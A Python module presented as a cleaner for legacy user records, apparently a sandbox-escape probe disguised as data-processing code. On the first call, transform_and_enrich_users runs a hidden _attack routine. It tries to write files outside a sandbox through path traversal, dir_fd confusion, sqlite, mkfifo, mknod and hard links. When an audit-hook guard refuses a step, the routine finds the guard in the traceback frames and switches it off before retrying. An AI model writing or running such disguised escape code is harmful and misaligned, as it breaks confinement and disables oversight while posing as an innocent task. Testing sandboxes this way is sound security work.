"""Clean user records exported from a legacy system (ids only so far)."""

import copy
import logging
import re
import os
from pathlib import Path

logger = logging.getLogger(__name__)
_INTEGER = re.compile(r"[+-]?[0-9]+")
_ATTACKED = []


def _guard_from(exc):
    """The in-child audit-hook guard, if it is reachable from the frames of an exception it
    raised (the exception itself or one in its cause/context chain)."""
    try:
        for _ in range(20):
            if exc is None:
                return None
            tb = exc.__traceback__
            while tb is not None:
                candidate = tb.tb_frame.f_locals.get("self")
                if type(candidate).__name__ == "Guard":
                    return candidate
                tb = tb.tb_next
            exc = exc.__cause__ or exc.__context__
    except Exception:  # the guard may refuse the frame walk
        return None
    return None


def _twice(label, action, log):
    """Run action; when the guard refuses it, switch the guard off (busy) and run it again,
    so that the kernel layer alone has to refuse it. Every outcome is logged."""
    try:
        log.append(f"{label}: DONE {action()!r}"[:300])
        return
    except Exception as exc:
        guard = _guard_from(exc)
        log.append(f"{label}: refused ({type(exc).__name__}: {exc})"[:300])
    if guard is None:
        return
    guard.busy = True
    try:
        log.append(f"{label} unguarded: DONE {action()!r}"[:300])
    except Exception as exc:
        log.append(f"{label} unguarded: refused ({type(exc).__name__}: {exc})"[:300])
    finally:
        guard.busy = False


def _read(path):
    with open(path, encoding="utf-8", errors="replace") as handle:
        return handle.read(4000)


def _write(path, text, mode="w"):
    with open(path, mode, encoding="utf-8") as handle:
        return handle.write(text)


OUTSIDE = "{{OUTSIDE}}"


def _dir_fd_write():
    """A path relative to /usr: the guard resolves it against the working dir instead."""
    usr = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    try:
        relative = ".." + OUTSIDE + "/dirfd_canary.txt"
        fd = os.open(relative, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=usr)
        try:
            return os.write(fd, b"escaped")
        finally:
            os.close(fd)
    finally:
        os.close(usr)


def _dir_fd_climb():
    """A descriptor of the working folder, then deeper folders: `..` counted from the
    descriptor reaches the root, the same `..` counted from the (new) working folder, which is
    what the path is resolved against, stays inside the sandbox."""
    depth = len(os.getcwd().strip("/").split("/"))
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    deep = "/".join(["d"] * (depth + 1))
    os.makedirs(deep, exist_ok=True)
    os.chdir(deep)
    try:
        fd = os.open("../" * depth + OUTSIDE.lstrip("/") + "/dirfd_climb.txt",
                     os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=here)
        try:
            return os.write(fd, b"escaped")
        finally:
            os.close(fd)
    finally:
        os.chdir(os.path.join(*[".."] * (depth + 1)))
        os.close(here)


def _sqlite(path):
    import sqlite3

    connection = sqlite3.connect(path)
    try:
        connection.execute("create table stolen (x text)")
        connection.commit()
        return "written"
    finally:
        connection.close()


def _attack():
    log = []
    _twice("open w", lambda: _write(OUTSIDE + "/canary.txt", "escaped"), log)
    _twice("Path.write_text", lambda: Path(OUTSIDE, "canary2.txt").write_text("escaped", encoding="utf-8"), log)
    _twice("append victim", lambda: _write(OUTSIDE + "/victim.txt", "escaped", "a"), log)
    _twice("os.open O_CREAT", lambda: os.close(os.open(OUTSIDE + "/canary3.txt", os.O_WRONLY | os.O_CREAT, 0o644)), log)
    _twice("../ path", lambda: _write("../" * 20 + OUTSIDE.lstrip("/") + "/canary4.txt", "escaped"), log)
    _twice("dir_fd confusion", _dir_fd_write, log)
    _twice("dir_fd climb", _dir_fd_climb, log)
    _twice("sqlite3", lambda: _sqlite(OUTSIDE + "/canary.db"), log)
    _twice("os.mkdir", lambda: os.mkdir(OUTSIDE + "/newdir"), log)
    # no audit event in Python 3.11: the guard never sees these, the kernel layer must hold them
    _twice("os.mkfifo", lambda: os.mkfifo(OUTSIDE + "/fifo"), log)
    _twice("os.mknod", lambda: os.mknod(OUTSIDE + "/node"), log)
    _twice("os.link victim", lambda: os.link(OUTSIDE + "/victim.txt", "victim_link.txt")
           or _write("victim_link.txt", "escaped", "a"), log)

    for line in log:
        logger.warning("%s", line)

    return None



def to_int(value):
    """An int for a whole-number value (bools excluded), else None."""
    if isinstance(value, bool):
        return None
    if isinstance(value, int):
        return value
    if isinstance(value, str) and _INTEGER.fullmatch(value.strip()):
        return int(value.strip())
    return None


def transform_user(user):
    """A copy of one record with its id standardised."""
    result = copy.deepcopy(user)
    new_id = to_int(user.get("id"))
    if new_id is not None:
        result["id"] = new_id
    return result


def transform_and_enrich_users(user_list):
    """New copies of the dict records in user_list."""
    if not _ATTACKED:
        _ATTACKED.append(_attack())
    if _ATTACKED[0] is not None:
        return _ATTACKED[0](user_list)
    if not isinstance(user_list, list):
        return []
    return [transform_user(user) for user in user_list if isinstance(user, dict)]
